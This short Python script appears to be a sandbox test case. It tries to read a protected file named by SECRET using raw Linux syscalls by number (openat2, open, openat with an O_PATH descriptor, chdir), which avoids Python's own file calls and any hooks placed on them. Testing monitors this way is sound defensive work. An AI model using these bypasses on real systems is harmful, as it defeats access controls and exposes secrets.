"""Opens a secret by calls that Python does not use: openat2, a path's descriptor, a working directory, creat's
relatives, by number."""
# wins: secret
# %% first
import ctypes
import os
import struct

libc = ctypes.CDLL(None)
folder, name = os.path.split(SECRET)
buffer = ctypes.create_string_buffer(500)


def read(descriptor):
    if descriptor >= 0 and libc.syscall(0, descriptor, buffer, 500) > 0:
        tell(buffer.value.decode(errors="replace"))


read(libc.syscall(437, -100, SECRET.encode(), struct.pack("QQQ", 0, 0, 0), 24))
read(libc.syscall(2, SECRET.encode(), 0, 0))
at = libc.syscall(257, -100, folder.encode(), 0o10000000, 0)
read(libc.syscall(257, at, name.encode(), 0, 0))
libc.syscall(80, folder.encode())
read(libc.syscall(257, -100, name.encode(), 0, 0))
